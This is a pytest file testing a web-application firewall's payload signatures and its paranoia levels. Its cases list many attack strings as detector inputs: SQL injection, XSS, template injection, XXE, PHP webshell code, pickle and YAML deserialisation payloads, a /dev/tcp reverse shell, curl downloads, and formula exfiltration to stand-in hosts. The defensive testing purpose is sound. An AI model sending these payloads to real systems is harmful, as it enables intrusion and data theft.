"""Tests of the payload families: one case per signature, where it applies, paranoia levels, scanners' probes."""
from __future__ import annotations

import json
from pathlib import Path
from urllib.parse import quote

import pytest

from smartlayer.detectors.payload import SIGNATURES, scan_parts, scan_request, scan_text

BLOCK = 3
FORM = "application/x-www-form-urlencoded"
FIXTURES = Path(__file__).parent / "fixtures" / "scanner_probes.json"


def names(result) -> set[str]:
    return {hit.split("@", 1)[0] for hit in result.hits}


def scan_json(document) -> object:
    """``document`` posted as a JSON body."""
    return scan_parts(body=json.dumps(document).encode(), content_type="application/json")


def scan_login(password: str) -> object:
    """A login form posting ``password``, as a browser encodes it."""
    return scan_parts(body=f"login=ana&pwd={quote(password, safe='')}&remember=on".encode(), content_type=FORM)


def scan_at(where: str, text: str):
    """Scan ``text`` as a client would send it in one part of a request."""
    if where == "path":
        return scan_parts(path=quote(text, safe="/%;:@&=+$,~!*'()?#[]"))
    if where == "header":
        return scan_parts(headers={"User-Agent": text})
    if where == "body":
        return scan_parts(body=text.encode(), content_type="text/plain")
    if where == "request":            # "METHOD content-type body": what only a whole request shows
        from django.test import RequestFactory

        method, content_type, body = (text.split(" ", 2) + ["", ""])[:3]
        return scan_request(RequestFactory().generic(method, "/", data=body.encode(), content_type=content_type))
    return scan_parts(query_string="q=" + quote(text, safe="%"))


# (where, text, signature): each signature not exercised by tests/test_payload.py's FAMILY_CASES
CASES = [
    ("query", "test' AND 8705=9360 AND 'rbaE'='rbaE", "sqli_string_compare"),
    ("query", "1)) AND 3142=3142 AND ((5=5", "sqli_closed_number"),
    ("query", "-7412\") as qngt where 2041=2041 union all select 2041--", "sqli_where_tautology"),
    ("query", "-6041')) or make_set(9835=1367,1367)", "sqli_function_condition"),
    ("query", " OR 1=1", "sqli_leading_boolean"),
    ("query", "test ORDER BY 3771#", "sqli_order_probe"),
    ("query", "test/**/ORdeR/**/bY/**/6993#", "sqli_order_probe"),
    ("query", "1 rlike sleep(5)#", "sqli_time_delay_injected"),
    ("query", "1; exec master..xp_cmdshell 'ping 10.0.0.1'", "sqli_exec_procedure"),
    ("query", "select @@version", "sqli_select_probe"),
    ("query", "1 and extractvalue(1,concat(0x7e,version()))", "sqli_error_based"),
    ("query", "1 and (select 1 from(select count(*),concat(0x71,(select user()),floor(rand(0)*2))x from "
              "information_schema.tables group by x)a)", "sqli_error_based"),
    ("query", "1 and 1=(select count(*) from sysusers)", "sqli_subquery"),
    ("query", "char(65)||char(66)", "sqli_char_concat"),
    ("query", "admin'--", "sqli_quote_comment_end"),
    ("query", "1 or 2>1", "sqli_numeric_suffix"),
    ("query", "<a href=\"javascript:alert(1)\">", "xss_js_uri_attribute"),
    ("query", "<img src=x alert(1)>", "xss_tag_with_sink"),
    ("query", "<iframe src=//evil.example>", "xss_frame_source"),
    ("query", "'+document.cookie+'", "xss_cookie_theft"),
    ("query", "\";alert('xss');//", "xss_js_breakout"),
    ("query", "+ADw-script+AD4-alert(1)", "xss_utf7"),
    ("query", "<div style=\"width:expression(alert(1))\">", "xss_css_expression"),
    ("query", "alert(1)", "xss_probe_value"),
    ("query", "<style>@import'http://evil.example/x.css';</style>", "xss_style_script"),
    ("query", "setTimeout(location.search.slice(1));", "xss_dom_source"),
    ("query", "{{7*7}}", "ssti_arithmetic"),
    ("query", "{{''.__class__.__mro__[1].__subclasses__()}}", "ssti_object_internals"),
    ("query", "${\"calc.exe\".execute()}", "ssti_method_call"),
    ("query", "{{ config }}", "ssti_expression"),
    ("body", "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>", "xxe_external_entity"),
    ("body", "<!DOCTYPE foo [<!ENTITY a \"aaaa\">]><foo>&a;</foo>", "xxe_internal_subset"),
    ("body", "<!ENTITY a \"aaaa\">", "xxe_entity_declaration"),
    ("body", "<![CDATA[<]]>script<![CDATA[>]]>alert(1)", "xml_script_smuggling"),
    ("query", "<!--#exec cmd=\"ls /\"-->", "ssi_directive"),
    ("query", "<esi:include src=\"http://evil.example/\"/>", "esi_directive"),
    ("path", "/@fs/etc/passwd", "traversal_in_path"),
    ("query", "..%c0%2e/..%c0%2e/etc/passwd", "lfi_obfuscated_file"),
    ("query", "file:///etc/passwd", "lfi_file_uri"),
    ("query", "..;/..;/WEB-INF/web.xml", "traversal_repeated"),
    ("query", "../../../config.php", "traversal_to_file"),
    ("query", "gopher://127.0.0.1:6379/_info", "rfi_dangerous_scheme"),
    ("query", "jar:http://evil.example/x.jar!/", "rfi_jar_url"),
    ("path", "/index.php?page=http://evil.example/shell.txt?", "rfi_url_trailing_question"),
    ("path", "/index.php?include_path=http://evil.example/x", "rfi_include_param"),
    ("query", "http://127.0.0.1:8080/admin", "ssrf_internal_host"),
    ("query", "http://169.254.169.254/latest/meta-data/", "ssrf_metadata_path"),
    ("query", "http://192.168.1.1/admin", "ssrf_private_url"),
    ("query", "//evil.example/", "open_redirect"),
    ("header", "() { :;}; /bin/bash -c 'id'", "shell_shellshock"),
    ("query", "| type C:\\Windows\\win.ini", "shell_windows_path_command"),
    ("query", "type %SYSTEMROOT%\\repair\\SAM", "shell_windows_variable"),
    ("query", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "shell_reverse_shell"),
    ("query", "x;CMD=$'id';$CMD", "shell_variable_exec"),
    ("body", "then run ; whoami to see", "shell_probe_text"),
    ("query", "<?php system($_GET['c']); ?>", "php_code"),
    ("query", "php://filter/convert.base64-encode/resource=index.php", "php_wrapper"),
    ("query", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", "php_serialised_object"),
    ("query", "phpinfo()", "php_function_call"),
    ("query", "-d allow_url_include=1 -d auto_prepend_file=php://input", "php_cgi_argument"),
    ("query", "function=call_user_func_array", "php_callable_value"),
    ("query", "${T(java.lang.Runtime).getRuntime().exec('id')}", "java_class"),
    ("query", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ", "java_serialised_object"),
    ("query", "AAEAAAD/////AQAAAAAAAAAMAgAAAEJTeXN0ZW0", "dotnet_serialised_object"),
    ("body", "data=0001000000ffffffff0100000000000000", "dotnet_serialised_object"),
    ("query", "%0d%0aSet-Cookie:%20session=evil", "crlf_header_injection"),
    ("query", "first%0d%0asecond", "crlf_encoded_newline"),
    ("query", "<meta http-equiv=\"Set-Cookie\" content=\"sid=evil\">", "session_fixation"),
    ("path", "/index.php.bak", "restricted_extension"),
    ("path", "/config.inc", "restricted_extension"),
    ("path", "/index.php~", "restricted_extension"),
    ("path", "/backup/dump.sql.gz", "restricted_extension"),
    ("path", "/site.bak.zip", "restricted_extension"),
    ("path", "/.git/config", "restricted_file"),
    ("path", "/~jane/.rhosts", "restricted_file"),
    ("path", "/shell.php%00.jpg", "null_byte"),
    ("body", "a\x00b", "null_byte_body"),
    ("header", "sqlmap/1.7.2#stable (https://sqlmap.org)", "scanner_user_agent"),
    ("query", "=PHPE9568F34-D428-11d2-A769-00AA001ACF42", "scanner_probe_value"),
    ("query", "nessus-probe", "scanner_name_value"),
    ("query", "*)(uid=*))(|(uid=*", "ldap_injection"),
    ("query", "admin*)((|userPassword=*)", "ldap_injection"),
    ("query", "username[$ne]=x", "nosql_operator"),
    ("query", "{\"username\": {\"$ne\": null}}", "nosql_operator"),
    ("query", "' && this.password.match(/.*/)//", "nosql_js_injection"),
    # the tools' own spellings, probed 2026-12-07: SQL (sqlmap's tampers, a scanner's sums, an ORM lookup by name)
    ("query", "1 AND 9227 BETWEEN 9226 AND 9228", "sqli_numeric_tautology"),
    ("query", "1 AND 9227 LIKE 9227", "sqli_numeric_tautology"),
    ("query", "-1' OR 2+191-191-1=0+0+0+1 --", "sqli_numeric_tautology"),
    ("query", "1 OR NOT 6372=6373", "sqli_numeric_tautology"),
    ("query", "1 AND GREATEST(8514,8513)=8514", "sqli_numeric_tautology"),
    ("query", "1 && 8514=8514", "sqli_numeric_suffix"),
    ("query", "'\"(", "sqli_syntax_probe"),      # the run in place of the value
    ("body", "user__password__startswith=pbkdf2", "django_orm_secret_lookup"),
    # a login form's field that is a name, a quote and a comment: the rest of the query commented out
    ("body", "admin'--", "sqli_field_comment_end"),
    # a form's value with a scanner's test appended, the whole field: a boolean comparison, a probe command
    ("body", "Registrar AND 1=1", "sqli_field_tautology"),
    ("body", "ana;ls -la", "shell_probe_field"),
    # evaluation probes that print what the prober computed; a format-string probe; XSLT asked who runs it
    ("query", "';print(md5(31337));$a='", "php_output_probe"),
    ("body", ";print(chr(122).chr(97).chr(112));", "php_output_probe"),
    ("query", "response.write(9876*1234)", "ssti_asp_write"),
    ("query", "ZAP%n%s%n%s%n%s%n%s", "format_string_probe"),
    ("body", "<xsl:value-of select=\"system-property('xsl:vendor')\"/>", "xml_script_smuggling"),
    # a delay an operator joins to the value (``ana / sleep(15)``, ``' | case randomblob(…)``), Windows' and
    # PowerShell's delays and help as probes, a doT.js template's sum
    ("body", "ana / sleep(15) ", "sqli_time_delay_injected"),
    ("query", "ana' | case randomblob(100000000) when not null then \"\" else \"\" end | '", "sqli_time_delay_injected"),
    ("query", "ana / DBMS_LOCK.SLEEP(15) ", "sqli_time_delay_injected"),
    ("query", "&timeout /T 5&", "shell_probe"),
    ("query", ";start-sleep -s 5", "shell_probe"),
    ("query", "\";get-help", "shell_probe"),
    ("body", "ana{{=1337*1337}}", "ssti_arithmetic"),
    # calls that hide the function's name, PHP's file readers, Java's I/O classes, Node.js, Ruby and Perl running commands
    ("query", "(system)('uname')", "php_hidden_call"),
    ("body", "array_map('system',['id'])", "php_hidden_call"),
    ("query", "('sys'.'tem')('id')", "php_hidden_call"),
    ("body", "${'sys'.'tem'}('id')", "php_hidden_call"),
    ("query", "$a='sys'.'tem';$a('id');", "php_hidden_call"),
    ("body", '$_="`"^"@"', "php_hidden_call"),
    ("body", "print_r(scandir('.'))", "php_code"),
    ("query", "fopen('/etc/passwd','r')", "php_code"),
    ("query", "java.io.FileInputStream", "java_io_class"),
    ("body", "global.process.mainModule.constructor._load('child_process')", "runtime_command"),
    ("body", "child_process.spawn('sh')", "runtime_command"),
    ("query", "Process.spawn('id')", "runtime_command"),
    ("body", "@{[system 'id']}", "runtime_command"),
    ("query", "%x(id)", "runtime_command"),
    # script: a dialog as an operand, sinks given a string, the Function constructor, an XPath union
    ("query", "-prompt(8)-", "xss_probe_value"),
    ("query", "setTimeout('alert(1)')", "xss_sink_payload"),
    ("query", "[].constructor.constructor('alert(1)')()", "xss_sink_payload"),
    ("query", "eval(atob('YWxlcnQoMSk='))", "xss_sink_payload"),
    ("query", "this.constructor.constructor('return process')()", "xss_sink_payload"),
    ("query", "')] | //user/*[contains(*,'", "xpath_injection"),
    # prototype pollution
    ("query", "__proto__[isAdmin]=true", "js_prototype_pollution"),
    ("query", "constructor[prototype][isAdmin]=1", "js_prototype_pollution"),
    ("body", '{"user": {"__proto__": {"role": "admin"}}}', "js_prototype_pollution"),
    # commands spelt to hide their name, and curl's options
    ("query", ";c'a't /etc/passwd", "shell_quoted_command"),
    ("query", "a;wh''oami", "shell_obfuscated_command"),
    ("query", "/?cmd=/???/??t /???/p??s??", "shell_obfuscated_command"),
    ("query", ";{cat,/etc/passwd}", "shell_obfuscated_command"),
    ("query", ";curl -o /tmp/a http://x.example.com/a", "shell_command"),
    ("query", ";/bin/ca? /etc/pa??wd", "shell_command"),
    # an out-of-band probe: the name a command resolves tells the tester that it ran
    ("query", "a|nslookup x7f3.collab.example", "shell_probe"),
    ("query", ";nslookup -type=txt x.oast.example", "shell_probe"),
    ("query", "|dig @8.8.8.8 x.oast.example", "shell_probe"),
    # the field separator where a space would be
    ("query", "a;${IFS}cat${IFS}/etc/passwd", "shell_ifs_spacing"),
    ("query", "curl$IFS$9http://x.example/a", "shell_ifs_spacing"),
    ("query", "subprocess.Popen(['id'])", "python_command_call"),
    # PHP as base64 for an include; objects built by YAML or a pickle
    ("query", "data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "php_code"),
    ("query", '!!python/object/apply:os.system ["id"]', "yaml_pickle_object"),
    ("body", "- !ruby/object:Gem::Installer\n  i: x", "yaml_pickle_object"),
    ("body", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]",
     "yaml_pickle_object"),
    ("query", "cos\nsystem\n(S'id'\ntR.", "yaml_pickle_object"),
    ("body", "cposix\nsystem\np0\n(Vid\np1\ntp2\nRp3\n.", "yaml_pickle_object"),
    # spreadsheet formulas, a Java application's private directories, a host as one octal number
    ("query", "=cmd|' /C calc'!A0", "formula_injection"),
    ("query", "@SUM(1+1)*cmd|' /C calc'!A0", "formula_injection"),
    ("body", '=HYPERLINK("http://x.example.com?x="&A1&A2,"Error")', "formula_injection"),
    ("query", 'DDE ("cmd";"/C calc";"!A0")A0', "formula_injection"),
    ("path", "/WEB-INF/web.xml", "restricted_file"),
    ("path", "/index.asp::$DATA", "restricted_extension"),
    ("header", "Fuzz Faster U Fool v2.1.0", "scanner_user_agent"),     # ffuf's own User-Agent
    ("body", "url=http://127.0.0.1:2375/containers/json", "ssrf_internal_field"),
    # commix's spellings: a file as a command's input, a quote closed before a printing command, arithmetic expansion,
    # expr's sum, the field separator inside a form field's command
    ("query", ";cat</etc/passwd", "shell_command"),
    ("query", "'; echo VULN", "shell_output_probe"),
    ("query", "echo $((3*4))", "shell_output_probe"),
    ("query", "|expr 5 + 5", "shell_probe"),
    ("body", ";sleep${IFS}5", "shell_ifs_field"),
    # a JSON Web Token whose header asks for no signature (``{"alg":"none"}``, ``{"typ":"JWT","alg":"None"}``)
    ("query", "token=eyJhbGciOiJub25lIn0.eyJ1c2VyIjoiYWRtaW4ifQ.", "jwt_unsigned"),
    ("header", "Bearer eyJ0eXAiOiJKV1QiLCJhbGciOiJOb25lIn0.eyJzdWIiOiIxIn0.", "jwt_unsigned"),
    # a base64 pickle importing a command's module, by protocol 0, 2 and 4 (``pickle.dumps`` of an object whose
    # ``__reduce__`` returns ``os.system``)
    ("query", "session=Y3Bvc2l4CnN5c3RlbQpwMAooVmlkCnAxCnRwMgpS", "python_pickle_base64"),
    ("query", "session=gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXEC", "python_pickle_base64"),
    ("header", "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "python_pickle_base64"),
    # a PHP object in base64, as a cookie carries it (``O:24:"GuzzleHttp\Psr7\FnStream":…``)
    ("query", "data=TzoyNDoiR3V6emxlSHR0cFxQc3I3XEZuU3RyZWFtIjoxOnt9", "php_serialised_object"),
    ("path", "/api/users/1 AND 1=1", "sqli_path_numeric_suffix"),
    ("path", "/static/..;/META-INF/MANIFEST.MF", "restricted_file"),
    ("query", "http://017700000001/", "url_obfuscated_host"),
    ("query", "%2e%2e%2fsecret", "encoded_dot"),
    # markup where a short value belongs, template probes, calls that hide the name of the function
    ("query", "<div style=\"background:url(x)\">", "xss_html_injection"),
    ("query", "<span datasrc=#i datafld=c dataformatas=html>", "xss_html_injection"),
    ("query", "top['al'+'ert'](1)", "xss_indirect_call"),
    ("query", "[1].find(alert)", "xss_indirect_call"),
    ("query", "a=alert,a(1)", "xss_indirect_call"),
    ("query", "{{ request }}", "ssti_template_probe"),
    ("query", "{% set cmd = 'id' %}", "ssti_template_probe"),
    ("query", "{{#with \"s\" as |string|}}", "ssti_template_probe"),
    ("query", "${class.getResource(\"\").getPath()}", "ssti_template_probe"),
    ("query", "<%= name %>", "ssti_template_probe"),
    ("query", "{{364|add:733}}", "ssti_template_probe"),
    ("body", "<%= Dir.entries('/') %>", "ssti_ruby_code"),
    ("body", "<% require 'open3' %>", "ssti_ruby_code"),
    ("body", "<?xml version=\"1.0\"?><methodCall><methodName>pingback.ping</methodName></methodCall>",
     "xmlrpc_abuse"),
    ("query", "%0d%0a", "crlf_encoded_pair"),
    # commands: Windows administration, a written-out line break as the separator, a quoted probe
    ("query", "; netsh firewall set opmode disable", "shell_probe"),
    ("query", "| reg add \"HKLM\\System\" /v x /t REG_DWORD /d 0 /f", "shell_probe"),
    ("query", "\\nid", "shell_probe"),
    ("query", "\\n/bin/ls -al\\n", "shell_command"),
    ("query", "' whoami", "shell_probe"),
    ("query", "netstat -an", "shell_probe"),
    ("query", "CMD=$\\'id\\';$CMD", "shell_variable_exec"),
    ("query", "..%c0%qf..%c0%qfetc%c0%qfpasswd", "traversal_encoded_target"),
    ("query", "..%%35%%63..%%35%%63windows%%35%%63win.ini", "traversal_encoded_target"),
    # climbs written as no path is, files asked for in base64, the probes tools send first
    ("query", "..2f..2f..2fvar2flog2fsyslog", "traversal_stripped_escape"),
    ("query", ".?%%35%%63.?%%35%%63x", "traversal_escape_residue"),
    ("query", "..\\\\{x}", "traversal_value"),
    ("query", "/./\\/./\\/./", "traversal_value"),
    ("query", "L2V0Yy9ob3N0cw==", "lfi_base64_path"),
    ("query", "http://0x7f000001/", "url_obfuscated_host"),
    ("query", "42.)(,'.\"(", "sqli_syntax_probe"),
    ("query", "x} or 'b'='b", "sqli_string_tautology"),
    ("query", "<p title=\">\" onpointerenter=x()", "xss_event_handler_value"),
    ("query", "7<'\">z", "xss_escape_probe"),
    ("query", "setTimeout(name)", "xss_eval_source"),
    ("query", "{{ now() }}", "ssti_call"),
    ("body", "<order><note>&ext;</note></order>", "xxe_entity_reference"),
    ("query", "*)(*", "ldap_metachar_value"),
    ("query", "a\\r\\nb", "crlf_written_escape"),
    # markup, XML and filter probes written as no reader writes them
    ("query", "&#x0003c", "xss_encoded_bracket"),
    ("query", "scriptalert(1)/script", "xss_stripped_script"),
    ("query", "<?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\">", "xss_behaviour_import"),
    ("query", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "xss_base64_markup"),
    ("query", "count(/child::node())", "xpath_injection"),
    ("query", "%5cr%5cn", "crlf_written_header"),
    ("query", "*)*", "ldap_filter_breakout"),
    ("request", "TRACK", "method_probe"),
    # a file part named as a server-side script (more cases: tests/test_payload_uploads.py)
    ("request", 'POST multipart/form-data;boundary=XyZ --XyZ\r\nContent-Disposition: form-data; name="f"; '
                'filename="shell.php"\r\nContent-Type: text/plain\r\n\r\nhi\r\n--XyZ--\r\n', "script_upload"),
    ("request", "BREW", "method_unknown"),
    ("request", "GET text/plain x=1", "body_on_bodiless_method"),
    ("request", "POST application/json x=1", "content_type_mismatch"),
]
#: Signatures that run only from paranoia level 2 or 3: (level, where, text, signature).
PARANOID_CASES = [
    (2, "query", "select name from people", "sqli_select_from"),
    (2, "query", "5 --", "sqli_comment_terminator"),
    (3, "query", "0x41424344454647", "sqli_hex_literal"),
    (2, "query", "'><b>", "xss_tag_breakout"),
    (2, "query", "a; echo hi", "shell_probe_word"),
    (2, "query", "*)(cn=x", "ldap_filter"),
    (2, "path", "/cart;jsessionid=0123456789abcdef", "session_id_in_url"),
    (2, "query", "/etc/passwd", "lfi_system_path"),
    (2, "query", "https://elsewhere.example/", "redirect_absolute_url"),
    (2, "query", "<b>bold</b>", "xss_markup_value"),
    (2, "query", "{{ user.name }}", "ssti_template_value"),
]


@pytest.mark.parametrize(("where", "text", "signature"), CASES)
def test_signature_fires_where_it_applies(where, text, signature):
    assert signature in names(scan_at(where, text))


@pytest.mark.parametrize(("level", "where", "text", "signature"), PARANOID_CASES)
def test_paranoid_signatures_wait_for_their_level(sl, level, where, text, signature):
    sl(VALIDATOR_PARANOIA=level - 1)
    assert signature not in names(scan_at(where, text))
    sl(VALIDATOR_PARANOIA=level)
    assert signature in names(scan_at(where, text))


def test_every_new_signature_is_exercised():
    from tests.test_payload import FAMILY_CASES

    exercised = {n for _, n in FAMILY_CASES} | {c[-1] for c in CASES} | {c[-1] for c in PARANOID_CASES}
    assert {s.name for s in SIGNATURES} <= exercised


@pytest.mark.parametrize("value", [0, 4, "2", None, 1.5, True])
def test_a_bad_paranoia_level_reads_as_the_default(sl, value):
    sl(VALIDATOR_PARANOIA=value)
    assert "sqli_select_from" not in names(scan_text("select name from people"))
    assert scan_text("' OR 1=1--").score >= BLOCK


# ── scope: a signature means something in one place ───────────────────────

def test_php_cgi_options_and_callables_by_name_block_in_the_query_string():
    assert "php_cgi_argument" in names(scan_parts(query_string="%ADd+allow_url_include%3d1"))
    assert scan_parts(query_string="function=call_user_func_array&vars[0]=md5&vars[1][]=x").score >= BLOCK
    # the same names searched for are text
    assert scan_parts(query_string="q=how+to+set+allow_url_include%3DOn").score == 0
    assert scan_parts(query_string="q=call_user_func_array").score == 0
    assert scan_parts(query_string="method=post&callback=jQuery123").score == 0


@pytest.mark.parametrize("body", [b"username=admin'--&password=x", b"username=admin%27%23&password=x",
                                  b'{"username": "admin\'--", "password": "x"}'])
def test_a_login_field_commented_out_is_blocked_in_a_form_or_json(body):
    content_type = "application/json" if body.startswith(b"{") else "application/x-www-form-urlencoded"
    result = scan_parts(body=body, content_type=content_type)
    assert "sqli_field_comment_end" in names(result) and result.score >= BLOCK


@pytest.mark.parametrize("text", ['he said "no" -- then left', "It's great'--", "rock'n'roll#"])
def test_a_quote_and_a_dash_in_prose_is_no_field_commented_out(text):
    result = scan_parts(body=f"comment={quote(text)}".encode(), content_type=FORM)
    assert "sqli_field_comment_end" not in names(result) and result.score < BLOCK



@pytest.mark.parametrize("value", ["ana;ls -la", "|dir", "&ping -n 5 127.0.0.1&", "ana&&whoami", "x|id", '";sleep 5;"',
                                   "1 AND 1=1", "Registrar OR 2>1--", "ana' AND 1=1", "or 1=1", "and 2>1--"])
def test_a_scanners_test_appended_to_a_form_field_blocks(value):
    result = scan_parts(body=f"login=ana&nombre={quote(value)}&B1=Registrar".encode(), content_type=FORM)
    assert result.score >= BLOCK, result.hits
    assert scan_json({"nombre": value}).score >= BLOCK


@pytest.mark.parametrize("text", ["Thanks; ping me tomorrow", "ok, I ran ls -la and saw nothing", "dog&cat food",
                                  "Tom & Jerry", "AT&T", "pages 1 and 2", "If x and 1=1 holds, all rows match",
                                  "we had 3 or 4=enough", "Rock|Pop", "R&D;HR", "eat / sleep / repeat",
                                  "Use timeout to wait", "see get-help in PowerShell's docs",
                                  "Serving on http://127.0.0.1:8000 (press CTRL+C to quit)", "It said 'hello'; echo that",
                                  "cat < dog? no", "words=\"a${IFS}b\""])
def test_prose_with_separators_and_comparisons_is_no_appended_test(text):
    result = scan_parts(body=f"comment={quote(text)}".encode(), content_type=FORM)
    assert not {"shell_probe_field", "sqli_field_tautology"} & names(result) and result.score < BLOCK, result.hits


@pytest.mark.parametrize("text", ["print(md5(data))", "echo md5($password);", "printf('%s: %s', name, value)",
                                  "'%s %s %s %s' % (a, b, c, d)", "date +%d-%m-%Y %H:%M:%S",
                                  "<xsl:value-of select=\"title\"/>", "Response.Write(total)",
                                  "$('#cart').show()", "$http(config).then(done)", "(function () { init(); })()",
                                  "Node's child_process.exec() runs a shell command", "(obj.handler)(event)",
                                  "Never call eval() on input", "a = 'x' ^ 'y'", "java.io is Java's I/O package"])
def test_code_that_prints_its_own_data_is_no_probe(text):
    result = scan_parts(body=f"snippet={quote(text)}".encode(), content_type=FORM)
    assert result.score < BLOCK, result.hits
    if not text.startswith("<"):            # markup of any kind blocks in a query value, as before
        assert scan_parts(query_string="q=" + quote(text, safe="")).score < BLOCK


def test_the_field_separator_as_a_space_blocks_in_a_value_not_in_a_pasted_script():
    assert "shell_ifs_spacing" in names(scan_parts(headers={"User-Agent": "x;cat${IFS}/etc/passwd"}))
    script = 'words="configure${IFS}build${IFS}test"'
    result = scan_parts(body=f"snippet={quote(script)}".encode(), content_type=FORM)
    assert "shell_ifs_spacing" not in names(result) and result.score < BLOCK


def test_restricted_extensions_count_in_the_path_only():
    assert scan_parts(path="/backup/site.bak").score >= BLOCK
    assert scan_parts(query_string="q=notes.bak").score == 0
    assert scan_parts(path="/static/app.js").score == 0
    # an archive is a download like any other; only a restricted file's compressed copy is a probe
    assert scan_parts(path="/downloads/release-1.2.tar.gz").score == 0
    assert scan_parts(path="/static/app.js.gz").score == 0


@pytest.mark.parametrize("text", ["see ../README.md and C:\\Users\\me\\notes.txt",
                                  "run npm install in ../frontend, then open /home/jane/app/.env.example",
                                  "cd ../.. and make"])
def test_a_typed_climb_a_browser_escaped_is_no_encoded_dot(text):
    """A browser writes the ``/`` and ``\\`` a person typed as ``%2F`` and ``%5C`` in a form, never a dot:
    the ``../`` of a comment was refused once it met one hint, as if the client had hidden it."""
    for result in (scan_parts(body=f"comment={quote(text, safe='')}".encode(), content_type=FORM),
                   scan_parts(query_string="q=" + quote(text, safe=""))):
        assert "encoded_dot" not in names(result) and result.score < BLOCK, result.hits


def test_an_escaped_dot_or_a_slash_escaped_twice_after_a_climb_is_still_an_encoded_dot():
    assert "encoded_dot" in names(scan_parts(query_string="f=%2e%2e/secret"))
    assert "encoded_dot" in names(scan_parts(body=b"f=..%252fsecret", content_type=FORM))
    assert "encoded_dot" in names(scan_parts(path="/static/..%2fsettings.py"))   # no encoder writes it there
    assert "encoded_dot" in names(scan_parts(headers={"User-Agent": "..%2f..%2fetc"}))


@pytest.mark.parametrize("query", ["q=bash", "language=sh", "tag=zsh&page=2", "shell=bash"])
def test_a_shells_name_alone_is_a_word_not_a_command(query):
    """A search for ``bash``, a snippet's language, a tag: a value that only names a shell runs nothing."""
    assert scan_parts(query_string=query).score == 0
    assert scan_json({query.split("=")[0]: query.split("=")[1].split("&")[0]}).score == 0


@pytest.mark.parametrize("query", ["q=bash+-c+id", "q=sh+-i", "q=x%3Bbash", "q=x%7Csh", "q=curl+x.sh%7Cbash"])
def test_a_shell_run_with_a_command_or_after_a_separator_still_blocks(query):
    assert "shell_command" in names(scan_parts(query_string=query))


@pytest.mark.parametrize("query", ["ordering=id", "sort=id&dir=asc", "fields=id", "focus=pwd", "tab=sysinfo",
                                   "view=route", "sort=-uname"])
def test_a_command_that_is_also_a_sort_key_or_a_fields_name_is_no_probe_alone(query):
    """DRF's ``?ordering=id``, a list sorted by ``id``, a form's focus on ``pwd``: a word, not ``id(1)``."""
    assert scan_parts(query_string=query).score == 0


@pytest.mark.parametrize("value", ["'id'", "^id", "<id", ";id", "x|pwd", "id;", "whoami", "uname -a", "`id`"])
def test_the_same_commands_quoted_escaped_or_after_a_separator_still_block(value):
    assert scan_parts(query_string="q=" + quote(value, safe="")).score >= BLOCK


@pytest.mark.parametrize("text", ["~/.bashrc alias", "edit ~/.ssh/config", "~/.aws/credentials format"])
def test_a_home_directorys_tilde_is_no_obfuscation(text):
    """``~/`` is how a home directory is written: a sensitive file named after it is a hint, as it is without."""
    result = scan_parts(query_string="q=" + quote(text, safe=""))
    assert "lfi_obfuscated_file" not in names(result) and result.score < BLOCK, result.hits


@pytest.mark.parametrize("text", [
    "the __dict__ of the instance", "override __init__ and __class__ checks", "use __subclasses__() to list them",
    "print(self.__class__.__name__)", "globals defaults to sys.modules[obj.__module__].__dict__",
    "Ask a question; return true if the answer is yes", "Return a new path (as returned by os.getcwd()).",
])
def test_python_prose_is_no_template_walk_nor_injected_code(text):
    """What a Python developer writes about dunders and functions (a Django site's own users) is not blocked."""
    result = scan_parts(body=f"comment={quote(text, safe='')}".encode(), content_type=FORM)
    assert result.score < BLOCK, result.hits


@pytest.mark.parametrize("value", [
    "{{ ''.__class__.__mro__[2].__subclasses__() }}", "().__class__.__bases__[0].__subclasses__()",
    "{{request|attr('__class__')}}", "{{ x.__dict__ }}", "x.__init__.__globals__['os']", "__import__('os')",
    "[].__class__.__base__", "0;return true", "';return(true);var x='a", "phpinfo()", "x=getcwd()",
])
def test_the_walks_and_probes_themselves_still_block(value):
    assert scan_parts(query_string="q=" + quote(value, safe="")).score >= BLOCK


@pytest.mark.parametrize("query", [
    "next=https%3A%2F%2Fshop.example.com%2Fsearch%3Fq%3Drunning%2520shoes%26page%3D2",
    "u=https%3A%2F%2Fexample.com%2F%3Fa%3D1%2526b%3D2",
    "comment=" + quote("see https://example.com/search?q=a%20b%3A", safe=""),
])
def test_a_url_with_its_own_escapes_carried_in_a_form_is_no_double_encoding(query):
    """A redirect's URL or a pasted link keeps its ``%20`` and ``%3A``: the form escapes them again."""
    for result in (scan_parts(query_string=query), scan_parts(body=query.encode(), content_type=FORM)):
        assert "double_encoding" not in names(result), result.hits


@pytest.mark.parametrize("query", ["q=%252e%252e%252fsecret", "q=%253Cb%253E", "q=%2527", "q=%25252f"])
def test_a_character_a_filter_looks_for_escaped_twice_is_still_double_encoding(query):
    assert "double_encoding" in names(scan_parts(query_string=query))


@pytest.mark.parametrize("text", ["path('clients/', include('app_name.urls'))",
                                  "include('blog.urls', namespace='blog')", "const fs = require('fs')"])
def test_djangos_include_of_a_module_is_no_php_include(text):
    result = scan_parts(body=f"snippet={quote(text, safe='')}".encode(), content_type=FORM)
    assert "php_code" not in names(result) and result.score < BLOCK, result.hits


@pytest.mark.parametrize("value", ["include('/etc/passwd')", "include('http://evil.example/x.txt')",
                                   "include($_GET['p'])", "require_once('config.php')", "include('shell.php')",
                                   "include(base64_decode('aW5kZXg='))"])
def test_a_php_include_of_a_path_url_variable_or_script_still_blocks(value):
    assert "php_code" in names(scan_parts(query_string="q=" + quote(value, safe="")))


@pytest.mark.parametrize("text", ["```python\npip install 'httpcore==1.*'\n```\n# changelog",
                                  "```sh\ncurl -O https://example.com/x.tar.gz\n```",
                                  "@request.application\ndef app(request): ..."])
def test_a_markdown_code_block_and_werkzeugs_decorator_are_no_injection(text):
    result = scan_parts(body=f"comment={quote(text, safe='')}".encode(), content_type=FORM)
    assert not names(result) & {"shell_substitution", "ssti_object_internals"} and result.score < BLOCK, result.hits


